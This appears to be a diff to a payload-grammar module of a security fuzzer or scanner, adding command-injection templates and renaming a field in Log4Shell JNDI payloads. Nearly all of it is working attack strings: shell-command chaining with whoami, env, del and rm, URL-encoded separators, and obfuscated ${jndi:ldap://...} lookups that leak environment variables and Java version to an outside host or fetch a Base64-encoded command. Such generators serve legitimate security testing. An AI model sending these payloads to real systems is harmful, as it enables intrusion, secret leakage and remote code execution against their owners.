@@ -1,7 +1,27 @@
 """Attacks that run something: shell commands, Java and script expressions, deserialisation."""
 
 RULES = r"""
+word_command = id whoami ls dir pwd env ps uname ifconfig ipconfig hostname netstat set date who w last
+simple:
+  «w»;«word_command»
+  «w»; «word_command»
+  «w»|«word_command»
+  «w»| «word_command»
+  «w»&&«word_command»
+  «w»&& «word_command»
+  «w»||«word_command»
+  «w»`«word_command»`
+  «w»$(«word_command»)
+  «w»«nl»«word_command»
+  «n»;«word_command»
+  «n»|«word_command»
 cmdi:
+  «simple»
+  «simple»
+  «simple»
+  «simple»
+  «simple»
+  «simple»
   ;«cmd»
   ;«cmd»
   ; «cmd»
@@ -98,6 +118,22 @@ cmdi:
   |dir
   & whoami
   || ping -i «digit(2)» 127.0.0.1 ; x || ping -n «digit(2)» 127.0.0.1 &
+  "|«cmd»|rem
+  "&«cmd»&rem
+  |«cmd»|rem «sp»
+  &«cmd»&rem
+  '&«cmd»&rem'
+  "&del«tab»«w»«tab»#
+  ;del«tab»«w»«tab»#
+  "&rm,«w»&rem,
+  |ping;-w;«digit(4)»;-n;1;«ip»|rem;
+  &ping,-n,1,«ip»&rem,
+  && «cmd» && echo «w»
+  ;«cmd» 2>&1
+  ;«cmd» > /dev/null
+  ;«cmd»;echo «w»
+  «w»%26«cmd»
+  «w»%3B«cmd»
   --output=/«nixfile»
   -oProxyCommand=«cmd»
   --use-askpass=«cmd»
@@ -114,24 +150,24 @@ shellshock:
   () { foo;};echo; /bin/cat /«nixfile»
   () { (a)=>\' «bin»«cmd»
   { :;}; «cmd»
-scheme = ldap ldap ldap rmi dns ldaps iiop nis nds corba ${lower:l}dap ${::-l}dap ${::-l}${::-d}${::-a}${::-p} l${lower:D}ap ${::-r}mi ${lower:l}${lower:d}a${lower:p} ${env:«w»:-l}dap
+lookup = ldap ldap ldap rmi dns ldaps iiop nis nds corba ${lower:l}dap ${::-l}dap ${::-l}${::-d}${::-a}${::-p} l${lower:D}ap ${::-r}mi ${lower:l}${lower:d}a${lower:p} ${env:«w»:-l}dap
 jndi = jndi jndi jndi ${lower:j}ndi ${lower:j}${lower:n}${lower:d}i ${::-j}${::-n}${::-d}${::-i} ${::-j}ndi j${upper:n}di jn${env:«upper(2)»:-d}i ${lower:jnd}${lower:i} ${${::-j}ndi ${env:«w»:-j}ndi ${sys:«w»:-j}ndi ${date:'j'}${date:'n'}${date:'d'}${date:'i'} j${k8s:k5:-ND}i ${upper:j}ndi jnd${upper:ı} ${lower:${lower:jndi}} j${::-nD}i
 log4shell:
-  ${«jndi»:«scheme»://«host»/«w»}
-  ${«jndi»:«scheme»://«host»/«w»}
-  ${«jndi»:«scheme»://«host»/«w»}
-  ${«jndi»:«scheme»://«ip»:1389/«w»}
-  ${«jndi»:«scheme»://«ip»:1389/Basic/Command/Base64/«cmd|b64»}
-  ${«jndi»:«scheme»://«host»/${env:«envvar»}}
-  ${«jndi»:«scheme»://${hostName}.«host»/a}
-  ${«jndi»:«scheme»://${sys:java.version}.«host»/«w»}
-  ${«jndi»:«scheme»://127.0.0.1#«host»/«w»}
-  ${«jndi»:«scheme»:${::-/}/«host»/«w»}
-  ${«jndi»«scheme»://«host»/«w»}
-  «w»${«jndi»:«scheme»://«host»:1389/«w»}«w»
-  «w» ${«jndi»:«scheme»://«host»/«w»}
-  $%7B«jndi»:«scheme»://«host»/«w»%7D
-  %24%7Bjndi:«scheme»://«host»/«w»%7D
+  ${«jndi»:«lookup»://«host»/«w»}
+  ${«jndi»:«lookup»://«host»/«w»}
+  ${«jndi»:«lookup»://«host»/«w»}
+  ${«jndi»:«lookup»://«ip»:1389/«w»}
+  ${«jndi»:«lookup»://«ip»:1389/Basic/Command/Base64/«cmd|b64»}
+  ${«jndi»:«lookup»://«host»/${env:«envvar»}}
+  ${«jndi»:«lookup»://${hostName}.«host»/a}
+  ${«jndi»:«lookup»://${sys:java.version}.«host»/«w»}
+  ${«jndi»:«lookup»://127.0.0.1#«host»/«w»}
+  ${«jndi»:«lookup»:${::-/}/«host»/«w»}
+  ${«jndi»«lookup»://«host»/«w»}
+  «w»${«jndi»:«lookup»://«host»:1389/«w»}«w»
+  «w» ${«jndi»:«lookup»://«host»/«w»}
+  $%7B«jndi»:«lookup»://«host»/«w»%7D
+  %24%7Bjndi:«lookup»://«host»/«w»%7D
   ${env:«envvar»}
   ${sys:«w».«w»}
   ${java:version}
